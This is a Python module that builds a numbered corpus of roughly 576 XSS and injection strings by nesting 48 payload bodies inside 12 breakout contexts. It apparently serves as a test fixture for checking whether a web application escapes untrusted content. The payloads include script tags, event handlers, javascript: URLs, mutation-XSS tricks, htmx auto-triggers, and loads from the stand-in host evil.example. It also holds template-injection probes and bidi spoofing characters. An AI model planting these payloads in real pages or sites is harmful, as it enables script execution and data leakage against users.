"""More than five hundred ways to be more than text, made by combination (TRUST T7, F8).

Each carries its number, "k17k", so that a page can be asked which of them it shows. What would run
says so by a dialog, by `window.hit`, or by a request to evil.example.
"""

from itertools import product

RUN = "alert(window.hit=1)"
EVIL = "//evil.example/x"

BODIES = [
    f"<script>{RUN}</script>",
    f"<script src={EVIL}></script>",
    f"<script type=module>import '{EVIL}'</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src={EVIL}>",
    f"<img srcset='{EVIL} 2x'>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
    f"<svg><use href='{EVIL}#x'></use></svg>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<object data={EVIL}></object><embed src={EVIL}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<form action=javascript:{RUN}><button id=send>x</button></form>",
    f"<button formaction=javascript:{RUN}>x</button>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<body onload={RUN} onpageshow={RUN}>",
    f"<video><source onerror={RUN}></video><audio src={EVIL} autoplay>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<link rel=stylesheet href={EVIL}><link rel=prefetch href={EVIL}>",
    f"<style>@import '{EVIL}';*{{background:url({EVIL})}}</style>",
    f"<p style=\"background:url('{EVIL}')\">x</p>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}><template><script>{RUN}</script></template>",
    f"<div hx-get={EVIL} hx-trigger=load></div>",
    f"<div data-hx-get='/me/' hx-on::load='{RUN}' hx-trigger=load></div>",
    "<button id=act-close data-confirm=x hx-post=/me/theme/ hx-trigger=load>x</button>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<x contenteditable onblur={RUN} tabindex=1 id=x>x",
    f"<dialog open><form method=dialog><input type=image src={EVIL}></form></dialog>",
    f"<script>/*<!--<script>*/{RUN}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"[x](javascript:{RUN}) ![x]({EVIL})",
    f"javascript:{RUN}//",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>{%debug%}",
    "%(name)s %s {0.__class__} {name}",
    "\u202e\u2066gpj.exe\u2067 \u200f\u061c\u202d",
    "\ufeff\u200b\u2060\u00ad\u115f\u3164",
    "\x1b]0;x\x07\x1b[31m\x08\x7f\x85\u2028\u2029",
]
AROUND = [
    "{}",
    "'{}",
    '"{}',
    "'>{}",
    '">{}',
    "`>{}",
    "</textarea>{}",
    "</title></style></script>{}",
    "-->{}<!--",
    "]]>{}<![CDATA[",
    "</option></select>{}",
    '" autofocus onfocus=alert(window.hit=1) x="{}',
]


def corpus() -> list[str]:
    """Every body in every surrounding, numbered."""
    made = [around.replace("{}", body) for around, body in product(AROUND, BODIES)]
    return [f"k{number}k {payload}" for number, payload in enumerate(made)]


PAYLOADS = corpus()
